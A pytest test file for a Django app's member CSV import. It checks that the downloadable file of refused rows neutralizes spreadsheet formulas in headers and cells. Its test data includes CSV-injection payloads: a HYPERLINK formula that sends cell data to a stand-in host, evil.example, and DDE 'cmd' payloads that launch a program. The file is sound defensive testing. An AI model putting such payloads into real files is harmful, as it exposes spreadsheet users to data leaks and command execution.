"""The files an import hands back are safe to open in a spreadsheet: no cell, and no header,
of the refused-rows download runs as a formula, whatever the uploaded file held."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from members.models import MemberImport

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+cmd|' /C calc'!A0"]


def refused_rows(client, org, text: str) -> list[list[str]]:
    response = client.post(
        f"/o/{org.slug}/members/import/", {"file": SimpleUploadedFile("people.csv", text.encode())}
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    member_import = MemberImport.objects.for_org(org).get()
    download = client.get(f"/o/{org.slug}/members/import/{member_import.pk}/errors.csv")
    assert download.status_code == 200
    content = download.content.decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:])))


def test_formulas_in_the_header_row_come_back_neutralized(org, admin, login):
    header = ["email", *FORMULAS]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerow(["not-an-address", "a", "b", "c"])
    [downloaded_header, row] = refused_rows(login(admin), org, buffer.getvalue())
    assert downloaded_header == ["email", *("'" + formula for formula in FORMULAS), "reasons"]
    assert row[:4] == ["not-an-address", "a", "b", "c"]


@pytest.mark.parametrize("formula", [*FORMULAS, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_formulas_in_refused_rows_come_back_neutralized(org, admin, login, formula):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([["email", "name"], [formula, "Ana"]])
    [_header, row] = refused_rows(login(admin), org, buffer.getvalue())
    # Cells are read without their surrounding spaces, tab and carriage return included.
    assert row[0] == "'" + formula.strip()


def test_phone_numbers_and_plain_values_come_back_as_they_were(org, admin, login):
    text = "phone,name,notes\n+33 6 12,Ana,-12.50\n"
    [_header, row] = refused_rows(login(admin), org, text)
    assert row[:3] == ["+33 6 12", "Ana", "-12.50"]
